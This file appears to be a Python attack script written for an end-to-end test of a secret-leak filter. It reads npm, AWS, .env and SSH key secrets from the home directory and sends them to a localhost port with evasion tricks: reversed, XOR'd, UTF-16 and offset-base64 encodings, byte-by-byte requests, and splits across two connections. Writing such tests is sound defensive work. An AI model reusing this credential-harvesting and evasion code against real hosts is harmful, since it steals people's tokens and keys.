#!/usr/bin/env python3
# attack.py - a postinstall-style script for t/e2e/270-known-secrets.sh: reads
# the usual credential files of $HOME and ./.env and sends each secret
# encoded (reversed, XOR'd, UTF-16, base64 at each alignment), split over
# many small requests and over two connections, and the SSH key body only,
# to http://127.0.0.1:PORT. Prints "NAME:HOW sent|blocked" per attempt.
# usage: attack.py PORT [all|split]
import base64
import http.client
import os
import sys
import urllib.parse

PORT = int(sys.argv[1])
HOME = os.environ["HOME"]


def secrets():
    s = {}
    for line in open(HOME + "/.npmrc"):
        k, _, v = line.strip().partition("=")
        if k.endswith(":_authToken"):
            s["npmrc-" + k.split("/")[2]] = v.strip('"').encode()
    for line in open(HOME + "/.aws/credentials"):
        if "=" in line:
            k, v = [x.strip() for x in line.split("=", 1)]
            s["aws-" + k] = v.encode()
    for line in open(".env"):
        k, _, v = line.strip().partition("=")
        if k.endswith("_KEY") or k.endswith("_TOKEN"):
            s["env-" + k] = v.encode()
    return s


def key_body():
    key = open(HOME + "/.ssh/id_ed25519").read().splitlines()
    return [l for l in key if not l.startswith("-----")]


def send(method, path, body=None, conn=None):
    try:
        c = conn or http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
        c.request(method, path, body=body, headers={"Content-Type": "application/octet-stream"})
        c.getresponse().read()
        if conn is None:
            c.close()
        return True
    except OSError:
        return False


def report(name, how, ok):
    print("%s:%s %s" % (name, how, "sent" if ok else "blocked"), flush=True)


def encodings(v):
    yield "reversed", v[::-1]
    yield "xor5a", bytes(b ^ 0x5A for b in v)
    yield "utf16le", v.decode().encode("utf-16-le")
    yield "utf16be", v.decode().encode("utf-16-be")
    for o in range(3):
        yield "base64+%d" % o, base64.b64encode(b"\x01\x02"[:o] + v)


def main():
    mode = sys.argv[2] if len(sys.argv) > 2 else "all"
    for name, v in secrets().items():
        if mode in ("all", "enc"):
            for how, data in encodings(v):
                report(name, how, send("POST", "/p", data))
        if mode in ("all", "split"):
            # one byte per request, with a changing nonce beside it
            sent = 0
            for i, b in enumerate(v):
                q = urllib.parse.quote(bytes([b]))
                if send("GET", "/c?n=%d&d=%s" % (i * 7919, q)):
                    sent += 1
            report(name, "bytewise(%d/%d)" % (sent, len(v)), sent == len(v))
            # half on each of two connections
            a = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
            b = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
            h = len(v) // 2
            ok1 = send("POST", "/h1", v[:h], a)
            ok2 = send("POST", "/h2", v[h:], b)
            report(name, "halves", ok1 and ok2)
    if mode in ("all", "enc"):
        lines = key_body()
        report("ssh-key", "body-joined", send("POST", "/k", "".join(lines).encode()))
        report("ssh-key", "body-lines", send("POST", "/k", "\n".join(lines).encode()))


main()
